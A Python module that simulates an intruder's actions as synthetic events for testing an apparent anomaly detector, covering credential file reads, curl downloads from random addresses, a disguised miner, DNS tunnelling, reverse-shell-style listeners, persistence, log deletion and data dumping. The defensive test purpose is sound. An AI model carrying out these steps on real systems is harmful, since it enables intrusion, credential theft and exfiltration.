"""What an intruder does in a simulated workload. None of it is on the danger list (a test keeps it so): only what is
usual *there* can tell it apart."""

import random
from collections.abc import Callable, Iterator

from models.evaluation.fleet import Life, digits16, word
from probes.event import Event

Act = Callable[[Life, random.Random], Iterator[Event]]


def _address(rng: random.Random) -> str:
    return f"{rng.choice((45, 91, 185, 193))}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 250)}"


def looks_around(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    shell = s.proc("/bin/sh", "-c", "id; uname -a", parent=life.server)
    yield s.ran(shell)
    yield s.ran(s.proc("/usr/bin/id", parent=shell))
    yield s.ran(s.proc("/bin/uname", "-a", parent=shell))


def fetches_a_tool(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    curl = s.proc("/usr/bin/curl", "-so", "/tmp/u", f"http://{_address(rng)}/u", parent=life.server)
    yield s.ran(curl)
    yield s.connected(curl, _address(rng), 80)
    yield s.wrote(curl, "/tmp/u")


def calls_home(life: Life, rng: random.Random) -> Iterator[Event]:
    yield life.scene.connected(life.server, _address(rng), rng.choice((443, 8443, 53, 1234)))


def reads_keys(life: Life, rng: random.Random) -> Iterator[Event]:
    yield life.scene.read(life.server, rng.choice(("/root/.ssh/id_rsa", "/root/.aws/credentials", "/etc/shadow")))


def runs_what_it_dropped(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    path = f"/var/tmp/.{word(rng, 1)}/{word(rng, 2)}"
    yield s.wrote(life.server, path)
    yield s.changed(life.server, "chmod", path, mode=0o755)
    yield s.ran(s.proc(path, parent=life.server))


def mines(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    miner = s.proc("/usr/local/sbin/kworkerd", "-o", "pool.example:3333", parent=life.shell)
    yield s.ran(miner)
    yield s.asked(miner, f"{word(rng)}-pool.example")
    yield s.connected(miner, _address(rng), 3333)


def plants_a_page(life: Life, rng: random.Random) -> Iterator[Event]:
    yield life.scene.wrote(life.server, f"{rng.choice(life.dirs)}/{word(rng)}.php")


def runs_code(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    yield s.ran(s.proc("/usr/bin/perl", "-e", "use IO::Socket; print 1", parent=life.server))


def moves_sideways(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    near = f"10.{rng.randrange(9)}.{rng.randrange(250)}"
    for host in rng.sample(range(1, 250), 12):
        yield s.connected(life.server, f"{near}.{host}", 22)


def tunnels(life: Life, rng: random.Random) -> Iterator[Event]:
    for _ in range(6):
        yield life.scene.asked(life.server, f"{digits16(rng, 48)}.{word(rng)}.example")


def opens_a_door(life: Life, rng: random.Random) -> Iterator[Event]:
    yield life.scene.listened(life.server, f"0.0.0.0:{rng.choice((4444, 1337, 2222, 10_001))}")


def packs_data(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    zip_ = s.proc("/usr/bin/7z", "a", "/tmp/a.7z", life.data, parent=life.server)
    yield s.ran(zip_)
    yield s.read(zip_, f"{life.data}/customers.db")
    yield s.wrote(zip_, "/tmp/a.7z")


def changes_the_code(life: Life, rng: random.Random) -> Iterator[Event]:
    yield life.scene.wrote(life.server, rng.choice((f"{life.home}/config.yml", "/app/index.js", "/app/main.py")))


def dumps_the_database(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    dump = s.proc("/usr/bin/pg_dump", "-Fc", "-f", "/tmp/d", parent=life.server)
    yield s.ran(dump)
    yield s.connected(dump, life.peers[2][0], 5432)


def stays(life: Life, rng: random.Random) -> Iterator[Event]:
    yield life.scene.wrote(
        life.server, rng.choice(("/root/.bashrc", "/etc/profile.d/x.sh", "/etc/systemd/system/x.service"))
    )


def wipes_the_log(life: Life, rng: random.Random) -> Iterator[Event]:
    yield life.scene.changed(life.server, "unlink", life.log)


def swaps_a_library(life: Life, rng: random.Random) -> Iterator[Event]:
    yield life.scene.wrote(life.server, "/usr/lib/x86_64-linux-gnu/libz.so.1")


def asks_for_the_environment(life: Life, rng: random.Random) -> Iterator[Event]:
    s = life.scene
    shell = s.proc("/bin/bash", "-i", parent=life.server)
    yield s.ran(shell)
    yield s.read(shell, "/proc/1/environ")


ACTS: tuple[Act, ...] = (
    looks_around, fetches_a_tool, calls_home, reads_keys, runs_what_it_dropped, mines, plants_a_page, runs_code,
    moves_sideways, tunnels, opens_a_door, packs_data, changes_the_code, dumps_the_database, stays, wipes_the_log,
    swaps_a_library, asks_for_the_environment,
)  # fmt: skip
